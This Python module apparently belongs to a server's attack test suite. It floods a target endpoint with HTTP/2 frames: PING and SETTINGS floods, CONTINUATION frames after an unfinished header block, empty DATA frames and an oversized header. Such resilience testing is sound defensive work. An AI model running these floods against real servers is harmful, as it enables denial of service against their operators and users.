"""Pings, settings, empty frames and header blocks without an end, as fast as they are taken."""

from __future__ import annotations

import contextlib

from tests.attack.target import CLAIM, Setting, Target
from tests.attack.wire import CONTINUATION, DATA, HEADERS, PING, SETTINGS, Connection, call_headers, frame, header

SETTING = Setting()
SECONDS = 3.0


def attack(target: Target, share: float) -> str:
    seconds, sent = max(0.5, SECONDS * share), 0
    begun = frame(HEADERS, 0, 1, call_headers(CLAIM))
    floods = (
        (b"", frame(PING, 0, 0, bytes(8)) * 1000),
        (b"", frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * 1000),
        (begun, frame(CONTINUATION, 0, 1, header("x", "y" * 100) * 20) * 10),
        (begun, frame(CONTINUATION, 0, 1, b"") * 1000),
        (frame(HEADERS, 4, 1, call_headers(CLAIM)), frame(DATA, 0, 1, b"") * 1000),
        (b"", frame(HEADERS, 5, 1, call_headers(CLAIM, ("x", "y" * 15_000)))),
    )
    for before, again in floods:
        with contextlib.suppress(OSError), Connection(target.endpoint) as connection:
            connection.send(before)
            sent += connection.pour(again, seconds)
    return f"{sent >> 10} KiB of frames"
